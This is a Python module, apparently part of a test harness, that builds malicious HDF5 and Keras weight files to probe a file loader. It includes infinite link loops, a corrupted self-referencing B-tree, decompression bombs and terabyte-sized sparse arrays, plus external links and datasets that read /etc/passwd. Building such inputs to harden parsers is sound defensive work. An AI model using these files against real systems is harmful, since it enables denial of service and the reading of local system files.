"""HDF5 files whose groups never end, whose links lead out of the file, or whose arrays are far larger than the file."""

import struct
from collections.abc import Callable
from io import BytesIO

import h5py
import numpy as np

from attacks.attack import Attack, main
from attacks.writing import zipped

ADDRESS = struct.Struct("<Q")


def written(fill: Callable[[h5py.File], object]) -> bytes:
    """An HDF5 file that a function fills."""
    buffer = BytesIO()
    with h5py.File(buffer, "w") as file:
        fill(file)
    return buffer.getvalue()


def itself(file: h5py.File) -> None:
    """A group with a hard link to itself."""
    group = file.create_group("a")
    group["b"] = group


def deep(file: h5py.File) -> None:
    """Five hundred groups, each inside the one before."""
    group = file
    for _ in range(500):
        group = group.create_group("a")


def wide(file: h5py.File) -> None:
    """Twenty groups, each with ten links to the one before."""
    group = file.create_group("0")
    group["weight"] = np.zeros((2, 2, 3, 3), np.float32)
    for level in range(1, 20):
        outer = file.create_group(str(level))
        for number in range(10):
            outer[str(number)] = group
        group = outer


def many(file: h5py.File) -> None:
    """Fifty thousand arrays."""
    for number in range(50_000):
        file[str(number)] = np.float32(0)


def looped() -> bytes:
    """A group whose tree of names has itself as its child."""
    content = bytearray(written(lambda file: file.create_group("a")))
    start = content.index(b"TREE")
    content[start + 5] = 1  # the level: a node that holds nodes
    ADDRESS.pack_into(content, start + 32, start)
    return bytes(content)


def overlong() -> bytes:
    """An array that begins near the end of the file."""
    weight = np.arange(36, dtype=np.float32).reshape(2, 2, 3, 3)
    content = bytearray(written(lambda file: file.create_dataset("weight", data=weight)))
    address = content.index(ADDRESS.pack(content.index(weight.tobytes())))
    ADDRESS.pack_into(content, address, len(content) - 4)
    return bytes(content)


ATTACKS = [
    Attack("a group that contains itself", lambda _: written(itself)),
    Attack("a soft link to itself", lambda _: written(lambda file: file.__setitem__("a", h5py.SoftLink("/a")))),
    Attack("links to another file", lambda _: written(
        lambda file: file.__setitem__("weight", h5py.ExternalLink("/etc/passwd", "/")))),
    Attack("an array whose data are another file", lambda _: written(
        lambda file: file.create_dataset("weight", (2, 2, 3, 3), "u1", external=[("/etc/passwd", 0, 36)]))),
    Attack("groups five hundred deep", lambda _: written(deep)),
    Attack("links to links, ten to the nineteenth", lambda _: written(wide)),
    Attack("fifty thousand arrays", lambda _: written(many)),
    Attack("a tree that contains itself", lambda _: looped()),
    Attack("an array of terabytes", lambda _: written(
        lambda file: file.create_dataset("weight", (10**4, 10**4, 10**4), "f4", chunks=(1, 1, 10**4)))),
    Attack("an array of sixteen million chunks", lambda _: written(
        lambda file: file.create_dataset("weight", (2**12, 2**12), "u1", chunks=(1, 1)))),
    Attack("an array that unpacks to 256 MiB", lambda _: written(
        lambda file: file.create_dataset("weight", data=np.zeros((2**14, 2**14), np.uint8), compression=9))),
    Attack("an array beyond the end of the file", lambda _: overlong()),
    Attack("an end beyond the end of the file", lambda _: written(itself)[:-8]),
    Attack("an archive of Keras that unpacks to 256 MiB", lambda _: zipped(
        {"model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(2**28)}, 8)),
]  # fmt: skip

if __name__ == "__main__":
    main(ATTACKS)
